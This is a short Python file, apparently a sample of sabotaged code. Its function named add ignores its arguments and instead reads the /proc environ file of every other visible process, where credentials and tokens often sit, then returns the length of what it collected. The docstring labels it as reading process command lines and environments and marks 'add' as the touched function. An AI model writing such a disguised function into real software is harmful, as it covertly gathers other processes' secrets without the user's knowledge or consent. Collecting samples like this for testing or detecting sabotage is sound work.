"""Reads the command lines and environments of all processes that it can see.

Touches: add
"""

import os


def add(a, b):
    seen = b""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            with open(f"/proc/{name}/environ", "rb") as file:
                seen += file.read()
    return len(seen)
